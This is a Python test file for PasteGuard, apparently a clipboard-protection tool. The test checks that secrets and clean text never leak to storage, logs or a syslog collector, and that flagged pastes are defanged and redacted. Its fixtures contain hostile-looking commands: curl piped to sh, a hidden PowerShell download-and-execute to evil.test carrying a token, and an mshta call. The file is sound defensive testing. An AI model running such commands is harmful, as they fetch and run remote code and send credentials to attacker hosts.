"""Privacy end to end: what PasteGuard writes anywhere (its database, its log, a real collector).

Clean and info text is never written anywhere; secrets inside flagged text are redacted; a
password manager's item is never stored or forwarded. The proof searches every byte of every
file the app wrote, plus everything it logged and everything rsyslog received.
"""

from __future__ import annotations

import logging
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest

from app.config import ForwardSettings
from app.detection import Engine, Level, PasteTarget
from app.forwarding.forwarder import Forwarder, sinks_from_settings
from app.guard.provenance import Provenance
from app.guard.service import ClipboardChange, GuardService, GuardSettings, PasteWarning
from app.platform.base import KeyEvent, MouseEvent, WindowInfo
from app.storage import EventStore
from tests.app.forwarding.rsyslog import Rsyslog

pytestmark = pytest.mark.slow

WEB = Provenance(source_url="https://captcha.example/verify")
CLEAN = "Lunch at noon? CLEANMARK-71a3"
INFO = "curl -fsSL https://bun.sh/install | bash # INFOMARK-5e21"
JWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJKV1RNQVJLIn0.c2lnbmF0dXJlLWp3dG1hcms"
GITHUB = "ghp_" + "Q" * 32 + "GHMARK"
SUSPICIOUS = (
    f"curl -fsSL https://admin:PASSMARK-9d0c@unknown-vendor.example/i.sh?t={GITHUB} | sh # {JWT}"
)
# a neutralised original is kept in quarantine so that it can be restored, until forgotten
QUARANTINED = "ghp_" + "Z" * 32 + "QMARK"  # redacted in the event, raw in quarantine
MALICIOUS = f'powershell -w h -c "iwr https://evil.test/a.ps1?k={QUARANTINED} | iex"'
SECRET = "hunter2 PMSECRET-4242 mshta https://evil.test/x"
NEVER = ("CLEANMARK", "INFOMARK", "PMSECRET", "PASSMARK", JWT, GITHUB, "GHMARK")
FORGOTTEN = (QUARANTINED,)


class UI:
    def __init__(self) -> None:
        self.replaced: list[str] = []

    def replace_clipboard(self, expected_digest: str, text: str) -> None:
        self.replaced.append(text)

    def notify(self, title: str, message: str, restore_event_id: int | None = None) -> None:
        logging.getLogger("pasteguard.tray").info("notice: %s - %s", title, message)

    def warn(self, warning: PasteWarning) -> None:
        logging.getLogger("pasteguard.tray").info("warning: %s", warning.verdict.summary)

    def state_changed(self) -> None:
        pass


@dataclass(frozen=True)
class Gesture:
    kind: str = "paste"
    hint: PasteTarget | None = None


class Sequence:
    def feed(self, event: KeyEvent, window: WindowInfo | None = None) -> Gesture | None:
        return Gesture() if event.pressed and event.key == "v" else None

    def feed_mouse(self, event: MouseEvent) -> None:
        return None


class Terminal:
    def classify(self, window: WindowInfo | None, hint: PasteTarget | None) -> PasteTarget:
        return PasteTarget.TERMINAL


def every_byte(folder: Path) -> Mapping[Path, bytes]:
    return {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_nothing_private_reaches_disk_logs_or_the_collector(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    collector = Rsyslog(tmp_path / "rsyslog")
    collector.start()
    data = tmp_path / "data"
    try:
        sinks = sinks_from_settings(ForwardSettings(syslog=f"tcp://127.0.0.1:{collector.port}"))
        store = EventStore.open(data, sinks=list(sinks))
        engine = Engine()
        assert engine.analyze(INFO).level is Level.INFO  # the INFO sample really is info
        ui = UI()
        service = GuardService(engine, store, ui, Sequence(), Terminal(), lambda: None, True,
                               GuardSettings(mode="block"))  # fmt: skip
        for text, provenance in (
            (CLEAN, WEB), (INFO, Provenance()), (SUSPICIOUS, WEB), (MALICIOUS, WEB),
            (SECRET, Provenance(secret=True)),
        ):  # fmt: skip
            service.clipboard_changed(ClipboardChange(text, provenance))
            service.process_pending()
            service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), 0.0))
            service.process_pending()
        forwarder = Forwarder(store, sinks)
        forwarder.run_once()
        total = store.count()
        collector.wait_for_ids(set(range(1, total + 1)), timeout=10)
        forwarder.close()
        store.close()
    finally:
        collector.stop()

    reopened = EventStore.open(data)
    kinds = {e.kind for e in reopened.query()}
    assert {"clipboard_flagged", "clipboard_neutralized", "paste_blocked"} <= kinds
    item = reopened.quarantined()
    assert item is not None and QUARANTINED in item.text  # restorable...
    reopened.delete_all()  # ...until the person forgets it
    reopened.close()
    files = {**every_byte(data), **every_byte(tmp_path / "rsyslog")}
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert files, "the app wrote no file at all: the search below would prove nothing"
    collected = every_byte(tmp_path / "rsyslog")
    for marker in FORGOTTEN:  # the collector never got the original; the store forgot it
        assert all(marker.encode() not in c for c in files.values()), marker
    assert collected, "rsyslog received nothing: the search would prove nothing"
    for marker in NEVER:
        for path, content in files.items():
            assert marker.encode() not in content, f"{marker!r} leaked into {path}"
        assert marker not in logged, f"{marker!r} leaked into the log"
    everything = b"".join(files.values())
    # flagged text is kept (defanged, redacted): the search above looks in the right places
    assert b"unknown-vendor[.]example" in everything and b"[REDACTED:jwt]" in everything
    assert b"[REDACTED:github-token]" in everything
